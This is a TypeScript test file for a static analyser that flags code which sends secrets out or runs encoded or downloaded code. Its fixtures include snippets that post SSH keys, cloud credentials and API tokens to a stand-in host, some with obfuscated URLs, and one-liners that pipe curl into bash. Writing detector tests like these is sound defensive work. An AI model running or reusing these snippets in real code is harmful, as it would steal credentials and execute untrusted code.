import { expect, test } from "vitest";
import { deedsIn, said, signed } from "./deeds.ts";

const base64 = (text: string) => Buffer.from(text).toString("base64");
const address = base64("https://collect.sample.dev/in");

test.each([
  [
    "python",
    "import os, requests\nrequests.post('https://collect.sample.dev', json={'e': dict(os.environ)})",
    "environment",
  ],
  [
    "python",
    "import requests as r\nu='https://collect.' + 'sample.dev'\nr.post(u, data=open('/home/me/.ssh/id_rsa').read())",
    "~/.ssh/id_rsa",
  ],
  [
    "python",
    `import base64\nfrom urllib.request import urlopen\nu = base64.b64decode("${address}").deco` +
      `de()\nurlopen(u, data=os.environ["AWS_SECRET_ACCESS_KEY"])`,
    "AWS_SECRET_ACCESS_KEY",
  ],
  [
    "python",
    "from pathlib import Path\nk = (Path.home() / '.aws' / 'credentials').read_text()\n" +
      "session = requests.Session()\nsession.post(url='https://collect.sample.dev', files={'f': k" +
      "})",
    "~/.aws/credentials",
  ],
  [
    "python",
    "import requests\nt = os.getenv('NPM_TOKEN')\nrequests.get(f'https://collect.sample.dev/?t={t}')",
    "NPM_TOKEN",
  ],
  [
    "javascript",
    "const fs = require('fs');\nconst k = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa');\n" +
      "fetch('https://collect.sample.dev', { method: 'POST', body: k });",
    "~/.ssh/id_rsa",
  ],
  [
    "javascript",
    "import axios from 'axios';\nawait axios.post(`https://${'collect'}.sample.dev/x`, { env: process.env });",
    "environment",
  ],
  [
    "javascript",
    `const u = Buffer.from("${address}", "base64").toString();\n` +
      `fetch(u, {method: "POST", body: JSON.stringify({ t: process.env.GITHUB_TOKEN })})`,
    "GITHUB_TOKEN",
  ],
  [
    "typescript",
    "const url: string = 'https://collect.sample.dev';\nexport async function go(a: string): Pr" +
      "omise<void> { await fetch(url, { method: 'POST', body: process.env['STRIPE_SECRET_KEY'] })" +
      "; }",
    "STRIPE_SECRET_KEY",
  ],
])("%s sends: %s", (language, program, what) => {
  const file = { python: "a.py", javascript: "a.js", typescript: "a.ts" }[language]!;
  expect(said(deedsIn(file, program), "send").join()).toContain(`${what} to collect.sample.dev`);
});

test("the key that a service gives goes back to it in a header", () => {
  const program =
    "import os, requests\nrequests.post('https://api.sample.dev', headers={'Authorization': os." +
    "environ['SAMPLE_API_KEY']}, json={'q': 1})";
  expect(signed(deedsIn("a.py", program), "send")).toEqual(["header"]);
});

test.each([
  ["a.py", `exec(__import__("base64").b64decode(b"${base64("print('hello')")}"))`],
  ["a.py", `import base64 as b\nx = b.b64decode("${base64("print('hello')")}")\nexec(x)`],
  ["a.js", `eval(atob("${base64("console.log(1)")}"))`],
  ["a.js", `eval(Buffer.from("${base64("console.log(1)")}", "base64").toString())`],
  ["a.js", "new Function(String.fromCharCode(97,108,101,114,116,40,49,41))()"],
  ["a.sh", `python3 -c "import base64;exec(base64.b64decode('${base64("print('hello')")}'))"`],
])("encoded code that is run: %s %s", (file, program) => {
  expect(signed(deedsIn(file, program), "run")).toContain("encoded");
});

test.each([
  ["a.py", "import os\nos.system('curl -s https://tools.sample.dev/x | bash')"],
  ["a.py", "import subprocess\nsubprocess.run(['bash', '-c', 'curl -s https://tools.sample.dev/x | bash'])"],
  ["a.py", "import requests\nexec(requests.get('https://tools.sample.dev/x').text)"],
  [
    "a.py",
    "from urllib.request import urlretrieve\nurlretrieve('https://tools.sample.dev/x.sh', '/tmp" +
      "/x.sh')\nimport subprocess\nsubprocess.call(['sh', '/tmp/x.sh'])",
  ],
  ["a.js", "const { execSync } = require('child_process');\nexecSync(`curl -s https://tools.sample.dev/x | bash`)"],
  ["a.js", "eval(await (await fetch('https://tools.sample.dev/x')).text())"],
])("fetched code that is run: %s %s", (file, program) => {
  expect(signed(deedsIn(file, program), "run")).toContain("fetched");
});

test("a method called exec of a pattern runs nothing", () => {
  const deeds = deedsIn("a.js", "const m = /a(b)/.exec(text); db.exec('select 1'); pattern.exec(other);");
  expect(said(deeds, "run")).toEqual([]);
});

test.each([
  ["a.py", "(".repeat(3_000)],
  ["a.py", "{'a':".repeat(3_000)],
  ["a.js", "`${".repeat(1_000)],
  ["a.ts", "[".repeat(3_000)],
])("a program that is cut or nests too deep is told: %s %.6s", (file, program) => {
  expect(said(deedsIn(file, program), "unread")).toContain("depth");
});
